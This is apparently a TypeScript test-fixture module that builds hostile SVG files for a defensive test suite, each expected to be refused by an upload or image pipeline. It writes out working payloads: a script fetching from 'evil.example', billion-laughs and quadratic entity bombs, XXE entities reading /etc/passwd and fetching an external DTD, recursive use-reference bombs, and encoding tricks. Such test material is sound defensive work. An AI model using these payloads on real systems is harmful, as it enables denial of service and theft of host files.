import type { HostileClass, HostileFile } from '../hostile-file.ts'
import { join, type Part, repeated } from '../parts/bytes.ts'

const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="300"'
const svg = (inside: string, prologue = '') => `${prologue}<svg ${NS}>${inside}</svg>`

/** Entities of entities: ten to the power of `levels`. */
const laughs = (levels: number) =>
  `<!DOCTYPE svg [<!ENTITY a0 "ha">${Array.from({ length: levels }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join('')}]>`

const drawings: Record<string, () => Part> = {
  plain: () => svg('<rect width="300" height="300"/>'),
  script: () => svg('<script>fetch("//evil.example")</script>'),
  'billion laughs': () => svg('<text>&a9;</text>', laughs(9)),
  'quadratic blow-up': () => svg(`<text>${'&a;'.repeat(20_000)}</text>`, `<!DOCTYPE svg [<!ENTITY a "${'x'.repeat(20_000)}">]>`),
  'file of the host': () => svg('<text>&e;</text>', '<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
  'fetch from the network': () => svg('<text>&e;</text>', '<!DOCTYPE svg [<!ENTITY % e SYSTEM "http://127.0.0.1:9/x.dtd">%e;]>'),
  'image of the host': () => svg('<image xlink:href="file:///etc/passwd" width="300" height="300"/>'),
  'use of itself': () => svg('<g id="a"><use xlink:href="#a"/></g>'),
  'uses of uses': () =>
    svg(`${Array.from({ length: 20 }, (_, at) => `<g id="a${at + 1}">${`<use xlink:href="#a${at}"/>`.repeat(10)}</g>`).join('')}<rect id="a0" width="1"/>`),
  deep: () => svg(`${'<g>'.repeat(100_000)}${'</g>'.repeat(100_000)}`),
  'endless size': () => `<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="1e9"/>`,
  filter: () => svg('<filter id="f"><feGaussianBlur stdDeviation="1e6"/></filter><rect width="300" height="300" filter="url(#f)"/>'),
  'behind a declaration': () => svg('', '<?xml version="1.0" standalone="no"?>\n'),
  'behind a byte order mark': () => join('\xef\xbb\xbf', svg('')),
  'two bytes a letter': () => join('\xff\xfe', Buffer.from(svg(''), 'utf16le')),
  'behind a megabyte of space': () => join(repeated(' ', 1_000_000), svg('')),
  'behind a megabyte of comments': () => join(repeated('<!-- -->', 125_000), svg('')),
}

export const svgBombs: HostileClass = {
  name: 'svg',
  about: 'drawings that compute, fetch or expand, under the name of a photo',
  files: () => Object.entries(drawings).map(([name, make]): HostileFile => ({ name, make: () => join(make()), expected: 'refused' })),
}
